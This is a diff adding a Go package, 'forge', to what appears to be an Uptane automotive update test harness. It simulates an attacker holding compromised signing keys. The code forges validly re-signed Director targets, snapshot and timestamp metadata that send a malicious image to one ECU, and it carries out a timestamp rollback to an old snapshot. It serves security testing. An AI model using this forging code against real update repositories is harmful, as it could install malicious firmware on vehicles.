@@ -1,0 +1,178 @@
+// Package forge is the attacker who holds keys (seam 2 of
+// docs/architecture.md): with a repository's compromised signers it makes
+// validly signed metadata of its own — Director targets that send one ECU a
+// malicious image, or a fresh timestamp that points back at an old
+// snapshot — ready to be served by the man in the middle.
+package forge
+
+import (
+	"crypto/sha256"
+	"crypto/sha512"
+	"fmt"
+
+	"github.com/theupdateframework/go-tuf/v2/metadata"
+
+	"github.com/uptane-hil/uptane-hil/uptane/keys"
+	"github.com/uptane-hil/uptane-hil/uptane/meta"
+)
+
+// Files is a set of forged repository files, name → bytes (e.g.
+// "timestamp.json", "7.snapshot.json", "targets/ecm-v3/HASH.fw.bin").
+type Files map[string][]byte
+
+// Repo is the attacker's view of one repository: its current top-level
+// metadata (as served) and the signers it holds per role.
+type Repo struct {
+	Timestamp []byte
+	Snapshot  []byte
+	Targets   []byte
+	Signers   map[string][]keys.Signer
+}
+
+func hashes(b []byte) metadata.Hashes {
+	a := sha256.Sum256(b)
+	c := sha512.Sum512(b)
+	return metadata.Hashes{"sha256": a[:], "sha512": c[:]}
+}
+
+func (r *Repo) signers(role string) ([]keys.Signer, error) {
+	s := r.Signers[role]
+	if len(s) == 0 {
+		return nil, fmt.Errorf("forge: the attacker holds no %s key", role)
+	}
+	return s, nil
+}
+
+// DirectorImage forges Director metadata that directs ecu to install image
+// under the name of its current target: Targets N+1 (signed with the
+// targets keys held), Snapshot and Timestamp re-signed to match (with the
+// snapshot and timestamp keys held). It returns the files to serve, with the
+// image under the path the Primary downloads it from ("targets/...").
+func DirectorImage(r *Repo, ecu string, image []byte) (Files, error) {
+	t, err := (&metadata.Metadata[metadata.TargetsType]{}).FromBytes(r.Targets)
+	if err != nil {
+		return nil, fmt.Errorf("forge: Director targets: %w", err)
+	}
+	found := ""
+	for name, tf := range t.Signed.Targets {
+		c, err := meta.GetCustom(tf)
+		if err != nil {
+			continue
+		}
+		if _, ok := c.ECUIdentifiers[ecu]; ok {
+			found = name
+			tf.Length, tf.Hashes = int64(len(image)), hashes(image)
+		}
+	}
+	if found == "" {
+		return nil, fmt.Errorf("forge: the Director's targets have no image for %s to replace", ecu)
+	}
+	out := Files{}
+	if err := r.resign(t, out); err != nil {
+		return nil, err
+	}
+	for _, n := range meta.ImageNames(found, hashes(image)) {
+		out["targets/"+n] = image
+	}
+	return out, nil
+}
+
+// resign signs targets as version N+1 and a matching snapshot and timestamp.
+func (r *Repo) resign(t *metadata.Metadata[metadata.TargetsType], out Files) error {
+	ts, err := r.signers(meta.Targets)
+	if err != nil {
+		return err
+	}
+	t.Signed.Version++
+	t.Signatures = nil
+	if err := meta.Sign(t, ts...); err != nil {
+		return err
+	}
+	tb, err := t.ToBytes(false)
+	if err != nil {
+		return err
+	}
+	out[meta.VersionedName(t.Signed.Version, meta.Targets)] = tb
+	s, err := (&metadata.Metadata[metadata.SnapshotType]{}).FromBytes(r.Snapshot)
+	if err != nil {
+		return fmt.Errorf("forge: snapshot: %w", err)
+	}
+	mf := s.Signed.Meta["targets.json"]
+	if mf == nil {
+		return fmt.Errorf("forge: snapshot lists no targets.json")
+	}
+	mf.Version = t.Signed.Version
+	if mf.Length != 0 {
+		mf.Length = int64(len(tb))
+	}
+	if len(mf.Hashes) != 0 {
+		mf.Hashes = hashes(tb)
+	}
+	return r.resignSnapshot(s, out)
+}
+
+func (r *Repo) resignSnapshot(s *metadata.Metadata[metadata.SnapshotType], out Files) error {
+	ss, err := r.signers(meta.Snapshot)
+	if err != nil {
+		return err
+	}
+	s.Signed.Version++
+	s.Signatures = nil
+	if err := meta.Sign(s, ss...); err != nil {
+		return err
+	}
+	sb, err := s.ToBytes(false)
+	if err != nil {
+		return err
+	}
+	out[meta.VersionedName(s.Signed.Version, meta.Snapshot)] = sb
+	return r.timestampFor(sb, s.Signed.Version, out)
+}
+
+func (r *Repo) timestampFor(snapshot []byte, version int64, out Files) error {
+	tss, err := r.signers(meta.Timestamp)
+	if err != nil {
+		return err
+	}
+	ts, err := (&metadata.Metadata[metadata.TimestampType]{}).FromBytes(r.Timestamp)
+	if err != nil {
+		return fmt.Errorf("forge: timestamp: %w", err)
+	}
+	mf := ts.Signed.Meta["snapshot.json"]
+	if mf == nil {
+		return fmt.Errorf("forge: timestamp lists no snapshot.json")
+	}
+	mf.Version = version
+	if mf.Length != 0 {
+		mf.Length = int64(len(snapshot))
+	}
+	if len(mf.Hashes) != 0 {
+		mf.Hashes = hashes(snapshot)
+	}
+	ts.Signed.Version++
+	ts.Signatures = nil
+	if err := meta.Sign(ts, tss...); err != nil {
+		return err
+	}
+	b, err := ts.ToBytes(false)
+	if err != nil {
+		return err
+	}
+	out[meta.UnversionedName(meta.Timestamp)] = b
+	return nil
+}
+
+// TimestampRollback forges a new Timestamp (signed with the timestamp keys
+// held) that points at an older, genuinely signed Snapshot the attacker
+// recorded: a rollback by whoever holds the timestamp key.
+func TimestampRollback(r *Repo, oldSnapshot []byte) (Files, error) {
+	s, err := (&metadata.Metadata[metadata.SnapshotType]{}).FromBytes(oldSnapshot)
+	if err != nil {
+		return nil, fmt.Errorf("forge: old snapshot: %w", err)
+	}
+	out := Files{meta.VersionedName(s.Signed.Version, meta.Snapshot): oldSnapshot}
+	if err := r.timestampFor(oldSnapshot, s.Signed.Version, out); err != nil {
+		return nil, err
+	}
+	return out, nil
+}
